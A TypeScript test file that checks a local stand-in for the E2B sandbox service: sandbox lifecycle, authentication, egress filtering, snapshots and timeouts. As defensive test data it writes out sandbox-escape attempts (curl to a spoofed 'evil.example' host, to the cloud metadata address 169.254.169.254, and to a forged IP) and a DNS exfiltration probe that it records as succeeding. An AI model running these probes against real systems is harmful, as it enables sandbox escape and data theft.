import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { ALL_TRAFFIC, CommandExitError, Sandbox } from 'e2b';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ensureBaseImage } from '../../../runner/images/build.ts';
import { type E2bStandIn, startE2bStandIn } from './index.ts';

// The E2B stand-in driven by the unmodified `e2b` SDK: sandboxes are real
// containers, envd's process API runs real commands, and the egress rules
// E2B applies are applied (a sandbox allowed only `gateway.e2b.test` reaches
// that name's server and nothing else). The attacks here are what root in a
// sandbox can try; ADR 0160 lists which E2B stops.

let standIn: E2bStandIn;
let world: Server;
let worldHits: string[] = [];

beforeAll(async () => {
  await ensureBaseImage({ progress: () => {} });
  world = createServer((req, res) => {
    worldHits.push(`${req.headers.host} ${req.url}`);
    res.end('gateway says hi');
  });
  await new Promise<void>((resolve) => world.listen(0, '127.0.0.1', resolve));
  const port = (world.address() as AddressInfo).port;
  standIn = await startE2bStandIn({ world: { 'gateway.e2b.test': `127.0.0.1:${port}` }, tag: 'sdk' });
}, 120_000);

afterAll(async () => {
  await standIn?.close();
  world?.close();
});

function opts() {
  return {
    apiKey: standIn.apiKey,
    apiUrl: standIn.apiUrl,
    sandboxUrl: standIn.sandboxUrl,
    domain: 'e2b.test',
  };
}

async function lockedDown(): Promise<Sandbox> {
  return Sandbox.create('airlock-base', {
    ...opts(),
    timeoutMs: 120_000,
    secure: true,
    metadata: { airlock: '1', test: 'sdk' },
    network: { allowOut: ['gateway.e2b.test'], denyOut: [ALL_TRAFFIC] },
  });
}

async function sh(sandbox: Sandbox, script: string, user: 'root' | 'sandbox' = 'root') {
  try {
    const r = await sandbox.commands.run(script, { user, timeoutMs: 30_000 });
    return { exitCode: r.exitCode, out: r.stdout + r.stderr };
  } catch (error) {
    if (error instanceof CommandExitError)
      return { exitCode: error.exitCode, out: error.stdout + error.stderr };
    throw error;
  }
}

describe('E2B stand-in with the e2b SDK', () => {
  it('creates, lists by metadata, runs commands with stdin and exit codes, and kills', async () => {
    const sandbox = await lockedDown();
    expect(sandbox.sandboxId).toMatch(/^i[0-9a-f]+$/);
    const listed = await Sandbox.list({ ...opts(), query: { metadata: { test: 'sdk' } } }).nextItems();
    expect(listed.map((s) => s.sandboxId)).toContain(sandbox.sandboxId);

    const who = await sh(sandbox, 'id -un && echo err >&2', 'sandbox');
    expect(who).toEqual({ exitCode: 0, out: 'sandbox\nerr\n' });
    expect((await sh(sandbox, 'exit 7')).exitCode).toBe(7);

    const cat = await sandbox.commands.run('cat', { background: true, stdin: true, user: 'root' });
    await cat.sendStdin('through stdin');
    await cat.closeStdin();
    expect((await cat.wait()).stdout).toBe('through stdin');

    expect(await Sandbox.kill(sandbox.sandboxId, opts())).toBe(true);
    expect(await Sandbox.kill(sandbox.sandboxId, opts())).toBe(false);
    expect(await standIn.containers()).toEqual([]);
  });

  it('refuses a wrong API key and a missing envd access token', async () => {
    await expect(Sandbox.create('airlock-base', { ...opts(), apiKey: 'e2b_wrong' })).rejects.toThrow(
      /Invalid API key/,
    );
    const sandbox = await lockedDown();
    const noToken = await fetch(`${standIn.sandboxUrl}/process.Process/List`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'e2b-sandbox-id': sandbox.sandboxId },
      body: '{}',
    });
    expect(noToken.status).toBe(401);
    await sandbox.kill();
  });

  it('lets the sandbox reach only the allowed name, by name, on 80/443', async () => {
    const sandbox = await lockedDown();
    worldHits = [];
    // Allowed: HTTP to the gateway's name.
    const ok = await sh(sandbox, 'curl -s -m 5 http://gateway.e2b.test/ok');
    expect(ok.out).toBe('gateway says hi');
    // A forged address for the allowed name still lands at the real one (E2B dials the name).
    const forged = await sh(
      sandbox,
      'curl -s -m 5 --resolve gateway.e2b.test:80:198.51.100.7 http://gateway.e2b.test/forged',
    );
    expect(forged.out).toBe('gateway says hi');
    // Another name, an IP, another port, the host, the cloud metadata address: all closed.
    for (const attempt of [
      'curl -s -m 5 -H "Host: evil.example" http://gateway.e2b.test/evil',
      'curl -s -m 5 http://198.51.100.7/',
      'curl -s -m 5 http://gateway.e2b.test:8080/',
      `curl -s -m 5 http://${standIn.firewall.gatewayIp}:22/`,
      'curl -s -m 5 http://169.254.169.254/latest/meta-data/',
      'curl -sk -m 5 https://evil.example/ --resolve evil.example:443:198.51.100.7',
    ]) {
      const r = await sh(sandbox, attempt);
      expect(r.exitCode, attempt).not.toBe(0);
    }
    expect(worldHits).toEqual(['gateway.e2b.test /ok', 'gateway.e2b.test /forged']);
    await sandbox.kill();
  });

  it('lets DNS through to E2B’s resolver when a domain is allowed (a channel E2B does not close)', async () => {
    const sandbox = await lockedDown();
    await sh(sandbox, 'getent hosts secret-data.exfil.example || true');
    expect(standIn.firewall.dnsQueries.map((q) => q.name)).toContain('secret-data.exfil.example');
    await sandbox.kill();
  });

  it('captures a snapshot that new sandboxes start from, and times sandboxes out', async () => {
    const sandbox = await lockedDown();
    await sh(sandbox, 'echo built > /opt/marker');
    const snapshot = await sandbox.createSnapshot();
    const child = await Sandbox.create(snapshot.snapshotId, { ...opts(), timeoutMs: 2_000 });
    expect((await sh(child, 'cat /opt/marker')).out).toBe('built\n');
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    await expect(Sandbox.getInfo(child.sandboxId, opts())).rejects.toThrow(/not found/);
    await sandbox.kill();
    expect(await standIn.containers()).toEqual([]);
  });
});
